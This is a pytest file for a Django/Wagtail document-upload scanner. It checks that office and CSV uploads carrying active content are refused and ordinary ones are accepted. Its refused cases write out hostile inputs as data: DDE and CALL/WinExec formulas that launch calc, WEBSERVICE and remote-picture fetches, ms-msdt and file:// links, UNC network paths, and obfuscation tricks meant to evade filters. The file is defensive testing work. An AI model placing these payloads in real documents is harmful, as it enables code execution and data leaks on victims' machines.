"""Documents that somebody made to run or fetch something past a list of what may not be: what is no known good is not taken."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from wagtail.documents.models import Document

from factsheets.documents.formats.contents import what_is_inside
from tests.builders import person
from tests.factsheets.documents.formats.test_office_documents import (
    OUTSIDE,
    RELATIONS,
    changed,
    field,
    open_text,
    with_body,
    with_relation,
    word,
    workbook,
)

ODD, FETCHES, LEADS = "was put together by no office program", "fetches something", "has a link that opens"
FORMULAS, PICTURE, FIELD = (
    "has formulas that ask",
    "has a picture that lies elsewhere",
    "has a field that asks",
)
MACROS, FORM = "holds macros", "holds a form"

FORMS = (
    'xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0" xmlns:xforms="http://www.w3.org/2002/xforms"'
)
SHEET = "xl/worksheets/sheet1.xml"


def with_formula(formula: str) -> bytes:
    row = f'<row r="3000"><c r="A3000"><f>{formula}</f></c></row></sheetData>'
    return changed(workbook(), {SHEET: lambda xml: xml.replace("</sheetData>", row)})


def used_by(element: str, address: str = "https://a.example/x") -> bytes:
    """Word with something outside that calls itself a link, and an element that uses it."""
    linked = with_relation("hyperlink", address, OUTSIDE)
    body = f'<w:p xmlns:r="{RELATIONS}" xmlns:v="urn:schemas-microsoft-com:vml"><w:r>{element}</w:r></w:p>'
    return changed(linked, {"word/document.xml": lambda xml: xml.replace("<w:body>", f"<w:body>{body}")})


def drawing(svg: str) -> bytes:
    return changed(
        word(), {"word/media/a.svg": f'<svg xmlns="http://www.w3.org/2000/svg">{svg}</svg>'.encode()}
    )


def begun(*pieces: str) -> str:
    """A field in pieces: `(` and `)` begin and end one, `|` its result; others are code, or text with `t:` before it."""
    marks = {"(": "begin", "|": "separate", ")": "end"}
    runs = [
        f'<w:r><w:fldChar w:fldCharType="{marks[piece]}"/></w:r>' if piece in marks
        else f"<w:r><w:t>{piece[2:]}</w:t></w:r>" if piece.startswith("t:")
        else f"<w:r><w:instrText>{piece}</w:instrText></w:r>"
        for piece in pieces
    ]  # fmt: skip
    return f"<w:p>{''.join(runs)}</w:p>"


def rtf(words: str) -> bytes:
    return f"{{\\rtf1\\ansi {words}}}".encode("latin-1")


def rtf_field(code: str) -> bytes:
    return rtf(f"{{\\field{{\\*\\fldinst {code}}}{{\\fldrslt x}}}}")


def rtf_picture(name: str, value: str) -> bytes:
    return rtf(f"{{\\shp{{\\*\\shpinst{{\\sp{{\\sn {name}}}{{\\sv {value}}}}}}}}}")


PICTURE_FIELD = 'INCLUDEPICTURE "http://a.example/x.png"'
REFUSED: dict[str, tuple[str, Callable[[], bytes], str]] = {
    **{
        f"a workbook: {formula}": ("xlsx", lambda formula=formula: with_formula(formula), FORMULAS)
        for formula in (
            'WEBSERVICE("http://a.example/?"&amp;A2)', '_xlfn.IMAGE("https://a.example/x.png")', "cmd|'/c calc'!A0",
            "'\\\\10.0.0.1\\s\\[a.xlsx]S'!A1", "[1]Sheet1!A1", 'RTD("x",,"y")', 'CALL("kernel32","WinExec","JCJ","calc",0)',
            "&#87;EBSERVICE(A1)", 'HYPERLINK("file:///c:/calc.exe")', "HYPERLINK(A1)", "MYOWN(1)",
        )
    },
    "a workbook with a remark": ("xlsx", lambda: with_formula("WEB<!-- -->SERVICE(A1)"), ODD),
    "a part of other programs": (
        "xlsx", lambda: with_relation_of_workbook("volatileDependencies", "volatileDependencies.xml"), ODD,
    ),
    "a template that is called a link": ("docx", lambda: used_by('<w:attachedTemplate r:id="rX"/>'), FETCHES),
    "a picture that is called a link": ("docx", lambda: used_by('<v:imagedata r:id="rX"/>'), FETCHES),
    "a picture by its address": ("docx", lambda: used_by('<v:imagedata src="http://a.example/x.png"/>'), FETCHES),
    "a relation that nobody knows": ("docx", lambda: with_relation("mystery", "a.xml"), ODD),
    "keys that run": ("docx", lambda: with_relation("keyMapCustomizations", "customizations.xml"), ODD),
    "a link to a setting": ("docx", lambda: with_relation("hyperlink", "ms-msdt:/id PCW", OUTSIDE), LEADS),
    "a link to a program": ("docx", lambda: with_relation("hyperlink", "file:///c:/calc.exe", OUTSIDE), LEADS),
    "a link to a script": ("docx", lambda: with_relation("hyperlink", "java&#10;script:a", OUTSIDE), LEADS),
    "a link by a field": ("docx", lambda: with_body(field('HYPERLINK "file:///c:/calc.exe"')), LEADS),
    "a name that a field makes": (
        "docx", lambda: with_body(begun("(", "(", 'QUOTE "INCLUDE"', "|", "t:INCLUDE", ")", 'PICTURE "http://a"', "|", ")")), FETCHES,
    ),
    "an empty field before it": ("docx", lambda: with_body(begun("(", "(", "QUOTE", ")", PICTURE_FIELD, "|", ")")), FETCHES),
    "a field in words": ("docx", lambda: with_body(begun("(", f"t:{PICTURE_FIELD}", "|", ")")), FETCHES),
    "an invisible letter before it": ("docx", lambda: with_body(field(f"&#8203;{PICTURE_FIELD}")), FETCHES),
    "a field that nobody knows": ("docx", lambda: with_body(field("MYSTERY a")), FETCHES),
    "a sheet of styles from elsewhere": (
        "docx", lambda: changed(word(), {"customXml/a.xml": b'<?xml-stylesheet href="http://a.example/a.xsl"?><a/>'}), ODD,
    ),
    "a drawing that fetches": ("docx", lambda: drawing('<image href="http://a.example/x.png"/>'), FETCHES),
    "a drawing with styles that fetch": ("docx", lambda: drawing("<style>a{fill:u&#114;l(http://a.example)}</style>"), FETCHES),
    "a touch that runs": (
        "docx", lambda: with_body('<a:hlinkMouseOver xmlns:a="a" action="ppaction://program"/>'), MACROS,
    ),
    "a form that is sent": ("odt", lambda: open_text(f'<form:form {FORMS} form:target-location="http://a.example"/>'), FORM),
    "a picture of a form": ("odt", lambda: open_text(f'<form:image {FORMS} form:image-data="http://a.example/x.png"/>'), FORM),
    "a form of another kind": ("odt", lambda: open_text(f'<xforms:instance {FORMS} src="http://a.example"/>'), FORM),
    "a link to a command": ("odt", lambda: open_text('<text:a xlink:href=".uno:Quit"/>'), LEADS),
    "a link to a setting in OpenDocument": ("odt", lambda: open_text('<text:a xlink:href="ms-msdt:/id"/>'), LEADS),
    "a link to a program in OpenDocument": ("odt", lambda: open_text('<text:a xlink:href="file:///c:/calc.exe"/>'), LEADS),
    "a torn link to a script": ("odt", lambda: open_text('<text:a xlink:href="v&#9;nd.sun.star.script:x?language=Basic"/>'), MACROS),
    "a formula in a text": ("odt", lambda: open_text('<text:variable-set text:formula="ooow:DDE(&quot;cmd&quot;)"/>'), FORMULAS),
    "a row of a database": ("odt", lambda: open_text("<text:database-next/>"), FETCHES),
    "a drawing that fetches in OpenDocument": (
        "odt", lambda: open_text("", **{"Pictures/a.svg": '<svg xmlns="http://www.w3.org/2000/svg"><image href="http://a"/></svg>'}), FETCHES,
    ),
    "a group that programs skip": ("rtf", lambda: rtf_field(f"{{\\*\\zz Q}}{PICTURE_FIELD}"), FIELD),
    "letters that are skipped": ("rtf", lambda: rtf_field("\\uc3\\u73 xyzNCLUDEPICTURE a"), FIELD),
    "a letter for old programs": ("rtf", lambda: rtf_field("\\uc1\\u73 \\'41NCLUDEPICTURE a"), FIELD),
    "a name that a field makes in RTF": (
        "rtf", lambda: rtf_field(f"{{\\field{{\\*\\fldinst QUOTE a}}{{\\fldrslt INCLUDE}}}}{PICTURE_FIELD[7:]}"), FIELD,
    ),
    "a link to a drive in RTF": ("rtf", lambda: rtf_field('HYPERLINK "\\\\\\\\\\\\\\\\10.0.0.1\\\\\\\\a"'), FIELD),
    "a list of texts": ("rtf", lambda: rtf_field("AUTOTEXTLIST x"), FIELD),
    "a picture of NeXT": ("rtf", lambda: rtf("{\\NeXTGraphic \\\\\\\\10.0.0.1\\\\x.png \\width1 }"), PICTURE),
    "a picture by its name": ("rtf", lambda: rtf_picture("pibName", "http://a.example/x.png"), PICTURE),
    "a picture on a network": ("rtf", lambda: rtf_picture("pibName", "\\\\\\\\10.0.0.1\\\\s\\\\x.png"), PICTURE),
    "a linked picture": ("rtf", lambda: rtf_picture("pibFlags", "10"), PICTURE),
    **{
        f"a table: {cell[:30]!r}": ("csv", lambda cell=cell: f"name\n{cell}\n".encode(), "holds formulas")
        for cell in (
            "\"+'\\\\10.0.0.1\\s\\[a.xlsx]S'!A1\",2", "+'\\\\10.0.0.1\\s\\[a.xlsx]S'!A1,2", "+" + "1+" * 120 + "cmd|'/c calc'!A0",
            "\"+{1,2}+cmd|'/c calc'!A0\"", "\"+1+\n\ncmd|'/c calc'!A0\"", "-LOG10(1)", "1:=1+1", "1 =cmd|'/c calc'!A0",
            "−cmd|'/c calc'!A0", '"-cmd|""/c, calc""!A0"', "+cmd|'/c " + "a" * 250 + "'!A0", '"+HYPERLINK (""http://a"")"',
        )
    },
}  # fmt: skip


def with_relation_of_workbook(kind: str, target: str) -> bytes:
    row = f'<Relationship Id="rX" Type="{RELATIONS}/{kind}" Target="{target}"/></Relationships>'
    return changed(
        workbook(), {"xl/_rels/workbook.xml.rels": lambda xml: xml.replace("</Relationships>", row)}
    )


TAKEN: dict[str, tuple[str, Callable[[], bytes]]] = {
    **{
        f"a workbook: {formula}": ("xlsx", lambda formula=formula: with_formula(formula))
        for formula in (
            "SUM(A1:A9)", "_xlfn.XLOOKUP(A1,A:A,B:B)", "Table1[[#This Row],[Pain]]*2", "IF(A1&gt;2,&quot;a|b [c]!&quot;,Sheet2!A1)",
            "[0]!Rate*2", "'Week 1'!A1", 'HYPERLINK("https://example.org/","More")', "STDEV.S(A1:A3)",
        )
    },
    "links": ("docx", lambda: with_relation("hyperlink", "mailto:a@example.org", OUTSIDE)),
    "a link that is used": ("docx", lambda: used_by('<w:hyperlink r:id="rX"/>')),
    "a number within a field": ("docx", lambda: with_body(begun("(", "= ", "(", " PAGE ", "|", "t:3", ")", " - 1", "|", "t:2", ")"))),
    "a note of a program for references": ("docx", lambda: with_body(field(' ADDIN ZOTERO_ITEM CSL_CITATION {"id":1}'))),
    "a drawing": ("docx", lambda: drawing('<defs><path id="a"/></defs><use href="#a"/><path fill="url(#a)"/>')),
    "an empty frame of forms": ("odt", lambda: open_text("<office:forms/>")),
    "a link to a place": ("odt", lambda: open_text('<text:a xlink:href="#Heat"/>')),
    "a link in RTF": ("rtf", lambda: rtf_field('{\\rtlch\\af0 HYPERLINK "https://example.org/" }{\\*\\datafield 00d0}')),
    "a page number in RTF": ("rtf", lambda: rtf_field("{\\b PAGE }\\\\* MERGEFORMAT")),
    "a picture in RTF": ("rtf", lambda: rtf_picture("pibName", "C:\\\\pictures\\\\spine.png")),
    "words with dashes": ("csv", lambda: b"- see (below),+44 (0)20,-5%,Great! [1]\n- a|b!\n"),
    "an address": ("csv", lambda: b"name,https://example.org/?a=b\n"),
}  # fmt: skip


@pytest.mark.parametrize(("ending", "make", "said"), REFUSED.values(), ids=REFUSED)
def test_what_is_no_known_good_is_refused(ending: str, make: Callable[[], bytes], said: str) -> None:
    assert what_is_inside(ending, make()).said.startswith(said)


@pytest.mark.parametrize(("ending", "make"), TAKEN.values(), ids=TAKEN)
def test_what_people_write_is_taken(ending: str, make: Callable[[], bytes]) -> None:
    assert what_is_inside(ending, make()).said == ""


@pytest.mark.django_db
@pytest.mark.parametrize("ending", ["xlsx", "docx", "odt", "rtf", "csv"])
def test_the_form_says_so_and_stores_nothing(ending: str, settings: Any, tmp_path: Any) -> None:
    settings.MEDIA_ROOT = tmp_path
    author = Client()
    author.force_login(person("Author"))
    _, make, said = next(row for row in REFUSED.values() if row[0] == ending)
    sent = {"title": "A", "collection": 1, "file": SimpleUploadedFile(f"a.{ending}", make())}
    assert f"“a.{ending}” {said}" in author.post(reverse("wagtaildocs:add"), sent).content.decode()
    assert not Document.objects.exists()
